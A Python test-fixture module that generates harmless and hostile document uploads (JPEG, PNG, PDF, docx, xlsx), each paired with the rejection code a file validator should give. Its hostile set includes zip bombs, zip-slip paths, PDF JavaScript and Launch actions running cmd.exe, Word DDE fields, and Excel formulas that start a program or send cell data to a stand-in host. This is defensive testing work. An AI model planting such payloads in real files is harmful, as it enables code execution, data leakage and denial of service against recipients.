"""Honest and hostile files, made on the spot."""

import io
import struct
import warnings
import zipfile
import zlib

from PIL import Image

from tests.files.pdfs import SCRIPT, packed, pdf, stream


def picture(kind="JPEG", size=(40, 30), **options):
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, kind, **options)
    return out.getvalue()


def photo_with_place():
    """A JPEG turned on its side that says where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x8825] = {1: "N", 2: (40.0, 5.0, 0.0)}
    exif[0x010F] = "Camera of somebody"
    return picture(exif=exif)


def png_that_claims(width, height):
    """A PNG header without the pixels it promises."""
    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header))
    return b"\x89PNG\r\n\x1a\n" + chunk + b"\x00\x00\x00\x00IEND\xaeB`\x82"


def office(name="word/document.xml", **members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(name, "<document/>")
        for member, content in members.items():
            archive.writestr(member, content)
    return out.getvalue()


def zip_that_lies():
    """A docx whose list says 1,000 bytes for a member of 200 million."""
    data = bytearray(office(bomb=b"\x00" * 200_000_000))
    for start in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(b"bomb")
        while at >= 0:
            head = data.rfind(start, 0, at)
            offset = 22 if start == b"PK\x03\x04" else 24
            if head >= 0 and at - head < 60:
                data[head + offset : head + offset + 4] = struct.pack("<I", 150_000)
            at = data.find(b"bomb", at + 1)
    return bytes(data)


def spoilt(data):
    """A zip whose first member is no deflate stream any more."""
    start = 30 + int.from_bytes(data[26:28], "little") + int.from_bytes(data[28:30], "little")
    return data[:start] + b"\xff" * 6 + data[start + 6 :]


OUT = ' TargetMode="External"'


def rels(*lines):
    """A part of relations: (kind, target, is outside)."""
    said = "".join(
        f'<Relationship Id="r{n}" Type="http://x/{kind}" Target="{target}"{OUT * outside}/>'
        for n, (kind, target, outside) in enumerate(lines)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{said}</Relationships>'


def text(*runs):
    """A Word text with a field whose code is cut into these runs."""
    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    body = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    return f'<w:document xmlns:w="http://w/">{body}</w:document>'


def types(content_type):
    """A docx whose text says that it is something else."""
    said = f'<Types><Override PartName="/word/document.xml" ContentType="{content_type}"/></Types>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", said)
        archive.writestr("word/document.xml", "<document/>")
    return out.getvalue()


def twice():
    """A docx with two texts; which is shown depends on the reader."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as archive:
        warnings.simplefilter("ignore")
        for name in ("[Content_Types].xml", "word/document.xml", "word/document.xml"):
            archive.writestr(name, "<document/>")
    return out.getvalue()


def locked():
    """A docx whose parts are said to be sealed by a password."""
    data = bytearray(office())
    for start, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(start)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(start, at + 1)
    return bytes(data)


def sheet(formula, tag="f", name="xl/worksheets/sheet1.xml"):
    """An xlsx with one formula."""
    return office("xl/workbook.xml", **{name: f"<x:a xmlns:x='n'><x:{tag} t='shared'>{formula}</x:{tag}></x:a>"})


TWICE, HEX = b"/Filter [/FlateDecode /FlateDecode]", b"/Filter /ASCIIHexDecode"
FILE_OF = b"<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 5 0 R >> >>"
ENTITIES = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><document>&b;</document>'
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
ACTIVE, OUTSIDE, HIDDEN = "files.active_content", "files.external_content", "files.hidden_content"
TOO_LARGE, UNREADABLE, HARD = "files.unpacks_too_large", "files.not_readable", "files.too_hard"
HOSTILE = {
    "empty": (lambda: b"", "files.empty"),
    "21 MB": (lambda: b"\xff\xd8\xff" + b"\x00" * (21 << 20), "files.too_large"),
    "gif": (lambda: b"GIF89a" + b"\x00" * 50, "files.not_allowed"),
    "svg under a png name": (lambda: b"<svg onload='alert(1)'/>", "files.not_allowed"),
    "html": (lambda: b"<html><script>1</script>", "files.not_allowed"),
    "plain zip": (lambda: office("a.txt"), "files.not_allowed"),
    "png of 50,000 x 50,000": (lambda: png_that_claims(50_000, 50_000), "files.too_many_pixels"),
    "png of 30,000 x 30,000": (lambda: png_that_claims(30_000, 30_000), "files.too_many_pixels"),
    "jpeg head and nothing": (lambda: b"\xff\xd8\xff\xe0garbage", UNREADABLE),
    "cut jpeg": (lambda: picture(size=(400, 400))[:900], UNREADABLE),
    # PDFs
    "script packed, led to": (lambda: pdf(packed(SCRIPT)), ACTIVE),
    "its key spelt otherwise": (lambda: pdf(packed(b"5 0 << /S /J#61vaScript >>")), ACTIVE),
    "packed twice": (lambda: pdf(packed(SCRIPT, TWICE, times=2)), ACTIVE),
    "encrypted pdf": (lambda: b"%PDF-1.7\ntrailer << /Encrypt 9 0 R >>\n%%EOF\n", HIDDEN),
    "pdf bomb": (lambda: pdf(packed(b"5 0 " + b" " * (33 << 20))), TOO_LARGE),
    "pdf with script": (lambda: b"%PDF-1.7\n/OpenAction << /JS (x) >>\n%%EOF\n", ACTIVE),
    "pdf with a script spelt otherwise": (lambda: b"%PDF-1.7\n/J#61vaScr#69pt (x)\n%%EOF\n", ACTIVE),
    "pdf that opens a page of the web": (lambda: pdf(catalogue=b"/OpenAction << /S /URI /URI (http://x) >>"), ACTIVE),
    "pdf that starts a program": (
        lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>", catalogue=b"/OpenAction 4 0 R"),
        ACTIVE,
    ),
    "pdf that acts on each page": (lambda: pdf(page=b"/AA << /O << /S /Named /N /Print >> >>"), ACTIVE),
    "pdf that sends a form": (lambda: pdf(b"<< /S /SubmitForm /F (http://x) >>"), ACTIVE),
    "pdf with a file in it": (lambda: pdf(stream(b"MZ", b"/Type /EmbeddedFile")), ACTIVE),
    "pdf with a file pinned to its page": (
        lambda: pdf(FILE_OF, stream(b"MZ"), page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]"),
        ACTIVE,
    ),
    "pdf with a file of no type": (lambda: pdf(FILE_OF, stream(b"MZ")), ACTIVE),
    "the same packed, not led to": (lambda: pdf(packed(b"5 0 << /F (a.exe) /E#46<</F 6 0 R>> >>")), ACTIVE),
    "pdf to which files belong": (lambda: pdf(catalogue=b"/AF [4 0 R]"), ACTIVE),
    "pdf with a scene that runs": (lambda: pdf(stream(b"x", b"/Subtype /U3D /OnInstantiate 5 0 R")), ACTIVE),
    "pdf with a scene": (lambda: pdf(page=b"/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 4 0 R >>]"), ACTIVE),
    "pdf with a film": (lambda: pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"), ACTIVE),
    "pdf with the content of a film": (lambda: pdf(b"<< /RichMediaContent << /A 1 >> >>"), ACTIVE),
    "pdf bomb packed twice": (lambda: pdf(packed(b"\x00" * 60_000_000, TWICE, times=2)), TOO_LARGE),
    "pdf packed by other means": (lambda: pdf(packed(SCRIPT.hex().encode() + b">", HEX, times=0)), HARD),
    "pdf with a file behind a link": (lambda: pdf(b"<< /S /GoToE /T << /R /C >> >>"), ACTIVE),
    "pdf with a form of XML": (lambda: pdf(catalogue=b"/AcroForm << /XFA [] >>"), ACTIVE),
    "pdf that opens another": (lambda: pdf(b"<< /S /GoToR /F (\\\\host\\a.pdf) >>"), OUTSIDE),
    "pdf whose picture lies elsewhere": (lambda: pdf(stream(b"", b"/F (\\\\host\\a) /FFilter /DCTDecode")), OUTSIDE),
    "pdf nested without end": (lambda: pdf(b"[" * 100_000 + b"]" * 100_000), HARD),
    "pdf that is its own page": (lambda: pdf().replace(b"[3 0 R]", b"[2 0 R]"), UNREADABLE),
    "pdf of too many objects": (lambda: pdf(*[b"1"] * 100_001), HARD),
    "pdf and zip in one": (lambda: b"%PDF-1.7\n%%EOF\n" + office(), ACTIVE),
    "pdf and zip in one, within": (lambda: pdf(stream(office())), ACTIVE),
    "cut pdf": (lambda: pdf()[:-20], UNREADABLE),
    # zips of office programs
    "spoilt zip": (lambda: spoilt(office()), UNREADABLE),
    "cut zip": (lambda: office()[:60], UNREADABLE),
    "zip bomb": (lambda: office(bomb=b"\x00" * 200_000_000), TOO_LARGE),
    "zip bomb that lies": (zip_that_lies, UNREADABLE),
    "part that stands twice": (twice, HIDDEN),
    "docx with a password": (locked, HIDDEN),
    "macros": (lambda: office(**{"word/vbaProject.bin": b"x"}), ACTIVE),
    "macros by their type": (lambda: types(MACRO), ACTIVE),
    "macros by their relation": (
        lambda: office(**{"word/_rels/document.xml.rels": rels(("vbaProject", "a", 0))}),
        ACTIVE,
    ),
    "macros of old sheets": (lambda: office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": "<x/>"}), ACTIVE),
    "program under the name of a picture": (lambda: office(**{"word/media/a.png": b"MZ\x90"}), ACTIVE),
    "old file under the name of settings": (
        lambda: office(**{"xl/p.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        ACTIVE,
    ),
    "climbing zip": (lambda: office(**{"../../x": b"x"}), ACTIVE),
    "field that starts a program": (lambda: office(**{"word/a.xml": text("DDE", 'AUTO c:\\cmd "/k"')}), ACTIVE),
    "template of the web": (
        lambda: office(**{"word/_rels/settings.xml.rels": rels(("attachedTemplate", "http://x/a.dotm", 1))}),
        OUTSIDE,
    ),
    "template of another machine": (
        lambda: office(**{"word/_rels/settings.xml.rels": rels(("attachedTemplate", "file://host/a.dotm", 1))}),
        OUTSIDE,
    ),
    "picture of the web": (lambda: office(**{"word/_rels/a.rels": rels(("image", "http://x/a.png", 1))}), OUTSIDE),
    "sheet of another sheet": (lambda: office("xl/workbook.xml", **{"xl/externalLinks/a.xml": "<x/>"}), OUTSIDE),
    "field that fetches": (lambda: office(**{"word/a.xml": text("INCLUDE", 'PICTURE "http://x/a.png"')}), OUTSIDE),
    "sheet that asks the web": (lambda: sheet('_xlfn.WEBSERVICE("http://x/?"&amp;B1)'), OUTSIDE),
    "sheet with a picture of the web": (lambda: sheet('1+_xlfn.IMAGE ("http://x/a.png")'), OUTSIDE),
    "its function spelt otherwise": (lambda: sheet('"a"&amp;web&#83;ervice("http://x/")'), OUTSIDE),
    "sheet that names what asks the web": (lambda: sheet('WEBSERVICE("http://x/")', tag="definedName"), OUTSIDE),
    "sheet of a book elsewhere": (lambda: sheet("'\\\\host\\a\\[b.xlsx]S'!A1"), OUTSIDE),
    "sheet that starts a program": (lambda: sheet("cmd|'/c calc'!A0"), ACTIVE),
    "formula without end": (lambda: sheet("1+" * 40_000 + "1"), HARD),
    "entities": (lambda: office(**{"word/styles.xml": ENTITIES}), OUTSIDE),
    "entities in another alphabet": (lambda: office(**{"word/styles.xml": ENTITIES.encode("utf-16")}), OUTSIDE),
    "nested without end": (lambda: office(**{"word/a.xml": "<a>" * 5_000}), UNREADABLE),
    "no xml": (lambda: office(**{"word/a.xml": "<a"}), UNREADABLE),
}
HONEST = {
    "jpeg": (picture, "jpg"),
    "png": (lambda: picture("PNG"), "png"),
    "docx": (office, "docx"),
    "xlsx": (lambda: office("xl/workbook.xml"), "xlsx"),
    "xlsx with formulas": (
        lambda: sheet("SUM('汇 总'!A1:A9)&amp;\"IMAGE(a|b)\"&amp;表1[金额'[元']]&amp;HYPERLINK(A1)"),
        "xlsx",
    ),
    "pdf": (pdf, "pdf"),
    "pdf with a face of letters": (lambda: pdf(b"<< /AFRelationship /Data /EFF 1 /AF 3 >>"), "pdf"),
    "pdf that begins on its page": (lambda: pdf(catalogue=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"), "pdf"),
    "pdf with a link": (
        lambda: pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://x) >> >>]"),
        "pdf",
    ),
    "pdf with packed objects": (lambda: pdf(packed(b"5 0 << /Title (a) >>")), "pdf"),
    "pdf with numbers, and nothing": (lambda: pdf(b"5", b"null", b"true", b"1.5"), "pdf"),
    "pdf in which chance spells a script": (lambda: pdf(stream(b"\x88/JS (\x90\x11", b"/Filter /DCTDecode")), "pdf"),
    "docx with a link": (lambda: office(**{"word/_rels/a.rels": rels(("hyperlink", "http://x/", 1))}), "docx"),
    "docx of a template at home": (
        lambda: office(**{"word/_rels/a.rels": rels(("attachedTemplate", "file:///C:\\a.dotm", 1))}),
        "docx",
    ),
    "docx with a page number": (lambda: office(**{"word/a.xml": text(" PAGE ")}), "docx"),
    "docx with a picture": (lambda: office(**{"word/media/a.png": picture("PNG")}), "docx"),
}
